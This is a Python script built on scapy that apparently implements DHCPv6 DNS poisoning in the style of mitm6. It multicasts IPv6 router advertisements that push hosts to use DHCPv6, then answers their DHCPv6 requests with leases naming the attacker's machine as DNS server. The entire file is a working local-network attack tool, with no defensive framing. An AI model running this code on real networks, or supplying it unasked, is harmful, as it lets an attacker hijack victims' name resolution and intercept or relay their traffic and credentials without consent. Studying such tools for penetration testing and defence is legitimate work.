"""Leases link-local addresses with itself as the DNS server by DHCPv6, and calls for it by router advertisements, as
mitm6's documentation describes.

Usage: dhcpv6-poisoner.py INTERFACE
"""

import sys
import threading
import time

from scapy.all import (
    DHCP6_Advertise, DHCP6_Confirm, DHCP6_Renew, DHCP6_Reply, DHCP6_Request, DHCP6_Solicit, DHCP6OptClientId,
    DHCP6OptDNSServers, DHCP6OptIA_NA, DHCP6OptIAAddress, DHCP6OptServerId, DUID_LL, Ether, ICMPv6ND_RA,
    ICMPv6NDOptSrcLLAddr, IPv6, UDP, conf, get_if_hwaddr, in6_getifaddr, sniff,
)

INTERFACE = sys.argv[1]
MAC = get_if_hwaddr(INTERFACE)
OWN = next(ip for ip, _, name in in6_getifaddr() if name == INTERFACE and ip.startswith("fe80:"))
SOCKET = conf.L2socket(iface=INTERFACE)
ADVERTISEMENT_SECONDS = 30


def call():
    to_all = Ether(src=MAC, dst="33:33:00:00:00:01") / IPv6(src=OWN, dst="ff02::1", hlim=255)
    while True:
        SOCKET.send(to_all / ICMPv6ND_RA(M=1, O=1, routerlifetime=0) / ICMPv6NDOptSrcLLAddr(lladdr=MAC))
        time.sleep(ADVERTISEMENT_SECONDS)


def answer(frame):
    kind = next((one for one in (DHCP6_Solicit, DHCP6_Request, DHCP6_Renew, DHCP6_Confirm) if one in frame), None)
    if kind is None or DHCP6OptIA_NA not in frame or DHCP6OptClientId not in frame:
        return
    message = DHCP6_Advertise if kind is DHCP6_Solicit else DHCP6_Reply
    lease = DHCP6OptIAAddress(addr="fe80::10:79:1", preflft=300, validlft=300)
    SOCKET.send(
        Ether(src=MAC, dst=frame[Ether].src)
        / IPv6(src=OWN, dst=frame[IPv6].src)
        / UDP(sport=547, dport=546)
        / message(trid=frame[kind].trid)
        / DHCP6OptServerId(duid=DUID_LL(lladdr=MAC))
        / DHCP6OptClientId(duid=frame[DHCP6OptClientId].duid)
        / DHCP6OptIA_NA(iaid=frame[DHCP6OptIA_NA].iaid, T1=200, T2=250, ianaopts=[lease])
        / DHCP6OptDNSServers(dnsservers=[OWN])
    )


def listening():
    print("listening", flush=True)
    threading.Thread(target=call, daemon=True).start()


sniff(iface=INTERFACE, filter="udp dst port 547", prn=answer, store=False, started_callback=listening)
